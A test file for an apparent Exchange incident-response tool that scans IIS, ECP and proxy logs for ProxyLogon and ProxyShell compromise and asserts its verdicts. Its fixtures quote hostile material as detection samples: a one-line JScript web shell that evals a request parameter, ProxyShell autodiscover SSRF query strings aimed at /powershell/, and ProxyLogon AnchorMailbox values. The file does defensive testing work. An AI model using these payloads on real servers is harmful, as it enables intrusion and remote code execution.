import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ecpServerLog, httpProxyLog, iisLog, IIS_FIELDS } from '../../scripts/lib/formats.ts';
import { shellLocation } from '../../src/exchange/checks/webshell-access.ts';
import { DATA, dataTest } from '../support/paths.ts';
import { vigil } from '../support/cli.ts';

type F = {
  rule: string;
  title?: string;
  severity: string;
  host?: string;
  source: { path: string; line?: number };
  evidence: Record<string, unknown>;
  remediation?: string;
};
function hunt(dir: string): F[] {
  const r = vigil(['exchange', 'hunt', dir, '--format', 'jsonl', '--quiet']);
  assert.ok(r.code === 0 || r.code === 1, r.stderr);
  return r.stdout.trim()
    ? r.stdout
        .trim()
        .split('\n')
        .map((l) => JSON.parse(l) as F)
    : [];
}
const verdicts = (fs: F[]) =>
  fs.filter((f) => f.rule === 'exchange.verdict').map((f) => `${f.host}: ${String(f.evidence['verdict'])}`);
const scenario = (files: Record<string, string>) => {
  const dir = mkdtempSync(join(tmpdir(), 'vigil-hunt-'));
  for (const [p, text] of Object.entries(files)) {
    mkdirSync(join(dir, p, '..'), { recursive: true });
    writeFileSync(join(dir, p), text);
  }
  return dir;
};
const IIS_HEADER = `#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: 2021-03-05 00:00:00\r\n#Fields: ${IIS_FIELDS.join(' ')}\r\n`;

dataTest('HelseCERT: the real web-shell requests and the real ECP lines of a compromised server', () => {
  const iis = readFileSync(join(DATA, 'exchange/helsecert_iis_w3svc1_webshell_access_excerpt.log'), 'utf8')
    .split('\n')
    .filter((l) => /^\d{4}-/.test(l))
    .join('\r\n');
  const ecp = readFileSync(join(DATA, 'exchange/helsecert_ecpserver_cve27065_excerpt.txt'), 'utf8')
    .split('\n')
    .filter((l) => /^\d{4}-\d\d-\d\dT/.test(l))
    .map((l) => {
      const c = l.indexOf(',');
      return `${l.slice(0, c)},SERVERNAVN,ECP.Request,${l.slice(c + 1)}`;
    });
  const dir = scenario({
    'inetpub/logs/LogFiles/W3SVC1/u_ex210305.log': `${IIS_HEADER}${iis}\r\n`,
    'Logging/ECP/Server/ECPServer20210303-1.LOG': `#Software: Microsoft Exchange Server\r\n#Version: 15.0.0.0\r\n#Log-type: ECP Server Log\r\n#Fields: TimeStamp,ServerName,EventId,EventData\r\n${ecp.join('\r\n')}\r\n`,
  });
  const fs = hunt(dir);
  const shell = fs.filter((f) => f.rule === 'exchange.webshell-access');
  assert.ok(
    shell.every((f) => f.evidence['url'] === '/owa/auth/RedirSuiteServerProxy.aspx'),
    'a look-alike of the stock RedirSuiteServiceProxy.aspx',
  );
  assert.deepEqual(
    shell.map((f) => `${f.evidence['status']} ${f.severity}`),
    ['200 high', '200 high', '200 high', '200 high', '200 high', '302 medium', '302 medium', '302 medium'],
    'used, then gone (302) after clean-up',
  );
  const plant = fs.find(
    (f) => f.rule === 'exchange.cve-2021-27065' && f.evidence['parameter'] === 'ExternalUrl',
  )!;
  assert.match(
    String(plant.evidence['code']),
    /^<script language="JScript" runat="server">function Page_Load\(\)\{eval\(Request\["klk123456"\],"unsafe"\);\}<\/script>$/,
  );
  assert.deepEqual(verdicts(fs), ['SERVERNAVN: compromised']);
});

test('a clean server with legitimate administration: no compromise, changes shown as context', () => {
  const dir = scenario({
    'Logging/ECP/Server/ECPServer20210310-1.LOG': ecpServerLog([
      {
        time: '2021-03-10T09:12:00.000Z',
        server: 'EX02',
        data: "S:CMD=Set-OwaVirtualDirectory.ExternalUrl='https://mail.contoso.example/owa'.Identity='EX02\\owa (Default Web Site)';S:BLD=15.2.922.7",
      },
      { time: '2021-03-10T09:13:00.000Z', server: 'EX02', data: 'S:CMD=Get-Mailbox;S:BLD=15.2.922.7' },
    ]),
    'Logging/HttpProxy/Owa/HttpProxy_2021031009-1.LOG': httpProxyLog([
      {
        DateTime: '2021-03-10T09:00:00.000Z',
        MajorVersion: '15',
        MinorVersion: '2',
        BuildVersion: '922',
        RevisionVersion: '7',
        ServerHostName: 'EX02',
        UrlStem: '/owa/',
        AnchorMailbox: 'Smtp~jdoe@contoso.example',
        AuthenticatedUser: 'jdoe@contoso.example',
        ClientIpAddress: '10.1.2.3',
        HttpStatus: '200',
        Method: 'GET',
      },
      {
        DateTime: '2021-03-10T09:05:00.000Z',
        MajorVersion: '15',
        MinorVersion: '2',
        BuildVersion: '922',
        RevisionVersion: '7',
        ServerHostName: 'EX02',
        UrlStem: '/ews/exchange.asmx',
        AnchorMailbox: 'Sid~S-1-5-21-1-2-3-1142',
        AuthenticatedUser: 'CONTOSO\\HealthMailbox0a1b2c',
        UserAgent: 'AMProbe/Local/ClientAccess',
        ClientIpAddress: '127.0.0.1',
        HttpStatus: '200',
        Method: 'POST',
      },
    ]),
    'inetpub/logs/LogFiles/W3SVC1/u_ex210310.log': iisLog([
      {
        date: '2021-03-10',
        time: '09:00:01',
        's-ip': '10.0.0.5',
        'cs-method': 'GET',
        'cs-uri-stem': '/owa/auth/logon.aspx',
        'cs-uri-query': 'url=https%3a%2f%2fmail%2fowa%2f',
        's-port': '443',
        'c-ip': '10.1.2.3',
        'cs(User-Agent)': 'Mozilla/5.0 (Windows NT 10.0)',
        'sc-status': '200',
        'sc-substatus': '0',
        'sc-win32-status': '0',
        'time-taken': '15',
      },
      {
        date: '2021-03-10',
        time: '09:00:02',
        's-ip': '10.0.0.5',
        'cs-method': 'POST',
        'cs-uri-stem': '/owa/auth.owa',
        'cs-uri-query': '-',
        's-port': '443',
        'c-ip': '10.1.2.3',
        'cs(User-Agent)': 'Mozilla/5.0 (Windows NT 10.0)',
        'sc-status': '302',
        'sc-substatus': '0',
        'sc-win32-status': '0',
        'time-taken': '15',
      },
    ]),
  });
  const fs = hunt(dir);
  assert.deepEqual(verdicts(fs), ['EX02: clean']);
  assert.match(
    fs.find((f) => f.rule === 'exchange.verdict')!.remediation ?? '',
    /now runs Exchange 2019 CU10 15\.2\.922\.7, which has the ProxyLogon and ProxyShell fixes/,
  );
  assert.ok(
    fs.every((f) => f.severity === 'info' || f.severity === 'low'),
    JSON.stringify(fs.map((f) => [f.rule, f.severity])),
  );
  assert.ok(fs.some((f) => f.rule === 'exchange.vdir-change' && f.severity === 'info'));
  assert.ok(
    fs.some(
      (f) =>
        f.rule === 'exchange.build' &&
        f.evidence['verdict'] === 'patched' &&
        f.evidence['build'] === '15.2.922.7',
    ),
  );
});

test('a server only probed by scanners: probed, not compromised', () => {
  const dir = scenario({
    'HttpProxy/Owa/HttpProxy_2021030715-1.LOG': httpProxyLog([
      {
        DateTime: '2021-03-07T15:04:04.546Z',
        MajorVersion: '15',
        MinorVersion: '1',
        BuildVersion: '2176',
        RevisionVersion: '9',
        ServerHostName: 'EX03',
        UrlStem: '/owa/auth/x.js',
        AnchorMailbox: 'ServerInfo~localhost/ecp/default.flt?',
        ClientIpAddress: '192.0.2.1',
        HttpStatus: '500',
        Method: 'GET',
      },
    ]),
    'W3SVC1/u_ex210820.log': iisLog([
      {
        date: '2021-08-20',
        time: '11:02:13',
        's-ip': '10.0.0.5',
        'cs-method': 'GET',
        'cs-uri-stem': '/autodiscover/autodiscover.json',
        'cs-uri-query':
          '@foo.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@foo.com&CorrelationID=<empty>;',
        's-port': '443',
        'c-ip': '198.51.100.7',
        'cs(User-Agent)': 'python-requests/2.26.0',
        'sc-status': '400',
        'sc-substatus': '0',
        'sc-win32-status': '0',
        'time-taken': '31',
      },
      {
        date: '2021-03-06',
        time: '17:27:44',
        's-ip': '10.0.0.5',
        'cs-method': 'GET',
        'cs-uri-stem': '/owa/auth/Current/themes/errorFS.aspx',
        'cs-uri-query': '-',
        's-port': '443',
        'c-ip': '198.51.100.8',
        'cs(User-Agent)': 'Mozilla/5.0',
        'sc-status': '404',
        'sc-substatus': '0',
        'sc-win32-status': '0',
        'time-taken': '3',
      },
    ]),
  });
  const fs = hunt(dir);
  // Probed only — but its build (March 2021 SU for CU19) still lacks the ProxyShell fixes.
  assert.deepEqual(verdicts(fs), ['EX03: vulnerable']);
  const v = fs.find((f) => f.rule === 'exchange.verdict')!;
  assert.match(
    String(v.title),
    /^EX03: VULNERABLE — runs Exchange 2016 CU19 15\.1\.2176\.9 \(CVE-2021-34473, CVE-2021-34523, CVE-2021-31207\), no sign of exploitation \(probed 3 times\); the first attack \(2021-03-06T17:27\) met build 15\.1\.2176\.9, unpatched$/,
  );
  assert.match(
    v.remediation ?? '',
    /Install now: Install the May 2021 security update \(KB5003435\) or later for Exchange 2016 CU19/,
  );
  assert.equal(v.evidence['exposedAtFirstActivity'], true);
  assert.deepEqual(
    fs.filter((f) => f.rule === 'exchange.proxyshell').map((f) => [f.evidence['stage'], f.severity]),
    [['scan', 'medium']],
  );
  assert.deepEqual(
    fs.filter((f) => f.rule === 'exchange.webshell-access').map((f) => f.severity),
    ['medium'],
  );
});

test('ProxyShell to remote PowerShell, and CVE-2021-26858 in the OAB generator log', () => {
  const dir = scenario({
    'W3SVC1/u_ex210903.log': iisLog([
      {
        date: '2021-09-03',
        time: '15:20:53',
        's-ip': '10.0.0.5',
        'cs-method': 'POST',
        'cs-uri-stem': '/autodiscover/autodiscover.json',
        'cs-uri-query':
          '@evil.corp/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9z&Email=autodiscover/autodiscover.json%3F@evil.corp&CorrelationID=<empty>;',
        's-port': '443',
        'c-ip': '203.0.113.66',
        'cs(User-Agent)': 'python-requests/2.26.0',
        'sc-status': '200',
        'sc-substatus': '0',
        'sc-win32-status': '0',
        'time-taken': '64',
      },
      {
        date: '2021-09-03',
        time: '15:31:02',
        's-ip': '10.0.0.5',
        'cs-method': 'POST',
        'cs-uri-stem': '/aspnet_client/xqhfc.aspx',
        'cs-uri-query': '-',
        's-port': '443',
        'c-ip': '203.0.113.66',
        'cs(User-Agent)': 'Mozilla/5.0',
        'sc-status': '200',
        'sc-substatus': '0',
        'sc-win32-status': '0',
        'time-taken': '12',
      },
    ]),
    'OABGeneratorLog/OABGenerator_2021030306.log': [
      '2021-03-03T07:00:01.000Z,OABGenerator,Information,"Download failed and temporary file \'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\a1.tmp\' needs to be removed"',
      '2021-03-03T07:00:09.000Z,OABGenerator,Warning,"Download failed and temporary file \'C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx\' needs to be removed"',
    ].join('\r\n'),
  });
  const fs = hunt(dir);
  assert.deepEqual(
    fs
      .filter((f) => f.rule === 'exchange.proxyshell')
      .map((f) => [f.evidence['stage'], f.severity, f.evidence['backend']]),
    [['powershell', 'critical', '/powershell/']],
  );
  assert.deepEqual(
    fs.filter((f) => f.rule === 'exchange.cve-2021-26858').map((f) => [f.evidence['path'], f.source.line]),
    [['C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx', 2]],
  );
  assert.equal(verdicts(fs).length, 1);
  assert.match(verdicts(fs)[0]!, /: compromised$/);
});

test('web-shell locations: stock Exchange pages are not shells, look-alikes are', () => {
  assert.equal(shellLocation('/owa/auth/logon.aspx'), null);
  assert.equal(shellLocation('/owa/auth/RedirSuiteServiceProxy.aspx'), null);
  assert.equal(shellLocation('/owa/auth/RedirSuiteServerProxy.aspx'), 'owa/auth');
  assert.equal(shellLocation('/owa/auth/Current/themes/errorFS.aspx'), 'owa/auth');
  assert.equal(shellLocation('/owa/auth/15.1.2176/themes/resources/logon.css'), null);
  assert.equal(shellLocation('/ecp/auth/TimeoutLogoff.aspx'), null);
  assert.equal(shellLocation('/ecp/auth/w.aspx'), 'ecp/auth');
  assert.equal(shellLocation('/aspnet_client/system_web/supp0rt.aspx'), 'aspnet_client');
  assert.equal(shellLocation('/owa/'), null);
});

test('--jobs 2 (files shared between worker threads) finds exactly what one thread finds', () => {
  const norm = (out: string) =>
    out
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as F & { title: string })
      .map((f) => `${f.rule} ${f.severity} ${f.source.path}:${f.source.line ?? ''} ${f.title}`)
      .sort();
  const one = vigil(['exchange', 'hunt', 'examples/incident', '--format', 'jsonl', '--quiet', '--jobs', '1']);
  const two = vigil(['exchange', 'hunt', 'examples/incident', '--format', 'jsonl', '--quiet', '--jobs', '2']);
  assert.equal(two.code, one.code);
  assert.deepEqual(norm(two.stdout), norm(one.stdout));
  assert.ok(
    norm(one.stdout).some((l) => l.startsWith('exchange.build ')),
    'the build timeline, merged across threads',
  );
  assert.equal(vigil(['exchange', 'hunt', 'examples/incident', '--jobs', '0']).code, 2);
});

test('inventory: Get-ExchangeServer and an ExSetup.exe file listing say what runs now; the verdict says what the first attack met', () => {
  const attacked = scenario({
    'EX05/Logging/HttpProxy/Ecp/HttpProxy_2021030306-1.LOG': httpProxyLog([
      {
        DateTime: '2021-03-03T06:40:00.000Z',
        MajorVersion: '15',
        MinorVersion: '1',
        BuildVersion: '2176',
        RevisionVersion: '2',
        ServerHostName: 'EX05',
        UrlStem: '/ecp/y.js',
        AnchorMailbox: 'ServerInfo~a]@EX05.corp.example:444/ecp/proxyLogon.ecp#',
        ClientIpAddress: '203.0.113.50',
        HttpStatus: '241',
        Method: 'POST',
        BackEndStatus: '241',
      },
    ]),
    'inventory/servers.csv':
      '#TYPE Microsoft.Exchange.Data.Directory.Management.ExchangeServer\r\n"Name","Fqdn","Edition","AdminDisplayVersion","ServerRole","Site"\r\n"EX05","EX05.corp.example","Standard","Version 15.1 (Build 2308.8)","Mailbox","corp.example/Configuration/Sites/HQ"\r\n',
  });
  const fs = hunt(attacked);
  const inv = fs.find((f) => f.rule === 'exchange.build' && f.evidence['inventory'] === true)!;
  assert.equal(
    inv.title,
    'EX05 runs Exchange 2016 CU21 15.1.2308.8 (Get-ExchangeServer): ProxyLogon and ProxyShell fixed',
  );
  const v = fs.find((f) => f.rule === 'exchange.verdict')!;
  assert.equal(v.evidence['verdict'], 'compromised');
  assert.deepEqual(
    [
      v.evidence['buildNow'],
      v.evidence['buildNowFrom'],
      v.evidence['buildAtFirstActivity'],
      v.evidence['exposedAtFirstActivity'],
    ],
    ['15.1.2308.8', 'inventory', '15.1.2176.2', true],
  );
  assert.match(
    v.remediation ?? '',
    /Patching alone does not undo this\. It now runs Exchange 2016 CU21 15\.1\.2308\.8, which has the ProxyLogon and ProxyShell fixes\.$/,
  );

  // Nothing attacked it, but the file listing shows an ExSetup.exe from CU9 without the May 2021 update.
  const quiet = scenario({
    'EX06/files.csv':
      '"Path","Hash","FileVersion","LastWriteTime"\r\n"C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\ExSetup.exe","0d3b5e0b1a4c7e6f1d2c3b4a59687766554433221100ffeeddccbbaa99887766","15.02.0858.005","4/13/2021 2:11:00 AM"\r\n',
  });
  const q = hunt(quiet);
  assert.deepEqual(verdicts(q), ['EX06: vulnerable']);
  const qv = q.find((f) => f.rule === 'exchange.verdict')!;
  assert.match(
    String(qv.title),
    /^EX06: VULNERABLE — runs Exchange 2019 CU9 15\.2\.858\.5 \(CVE-2021-34473, CVE-2021-34523, CVE-2021-31207\), no sign of exploitation$/,
  );
  assert.match(
    qv.remediation ?? '',
    /Install now: Install the May 2021 security update \(KB5003435\) or later for Exchange 2019 CU9 \(build 15\.2\.858\.12\)\.$/,
  );
});
